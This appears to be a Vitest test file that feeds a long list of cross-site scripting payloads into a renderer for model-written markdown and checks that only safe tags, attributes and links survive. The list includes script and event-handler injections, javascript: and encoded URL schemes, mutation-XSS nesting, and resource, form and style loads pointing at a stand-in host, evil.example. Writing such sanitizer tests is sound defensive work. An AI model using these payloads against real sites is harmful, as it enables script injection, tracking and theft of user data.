import { describe, expect, test } from "vitest";
import { createRenderer } from "../../src/render/blocks";

/** What has run scripts in pages that showed a model's text. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  '![x](x "onerror=alert(1)")',
  '![x" onerror="alert(1)](y)',
  "![tracker](https://evil.example/pixel.png)",
  "<style>body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=key><button>go</button></form>",
  "<object data=x></object><embed src=x>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<a id=root name=root>x</a>",
  "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
  "# <script>alert(1)</script>",
  '<https://x.example/"onmouseover=alert(1)>',
  "https://x.example/<img src=x onerror=alert(1)>",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\style{background:url(//evil.example)}{x}$$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "[a]: javascript:alert(1)\n\n[a]",
  '<a href="https://x" onclick=alert(1) target=_self>x</a>',
  "\u0000<scr\u0000ipt>alert(1)</script>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><script>alert(1)</script></template>",
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  "<ruby><rt><style></style><img src=x onerror=alert(1)></rt></ruby>",
];

const ALLOWED = new Set(
  (
    "a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr input li ol p pre s span strong table " +
    "tbody td th thead tr ul"
  ).split(" "),
);

describe("what a model writes", () => {
  test.each(HOSTILE)("is harmless: %s", (text) => {
    for (const given of [text, `before\n\n${text}\n\nbehind`, `- ${text}`, `> ${text}`]) {
      const place = document.createElement("div");
      place.innerHTML = createRenderer()
        .render(given)
        .map((block) => block.html)
        .join("");
      for (const element of place.querySelectorAll("*")) {
        const name = element.localName;
        expect(ALLOWED.has(name) || element.closest("math"), name).toBeTruthy();
        for (const { name: attribute, value } of element.attributes) {
          expect(attribute).not.toMatch(/^on|^style$|^src|^id$|^name$/);
          if (attribute === "href") expect(value).toMatch(/^(https?:|mailto:|#)/i);
        }
        if (name === "a") expect(element.getAttribute("rel")).toContain("noopener");
        if (name === "input") expect(element.getAttribute("type")).toBe("checkbox");
      }
    }
  });
});
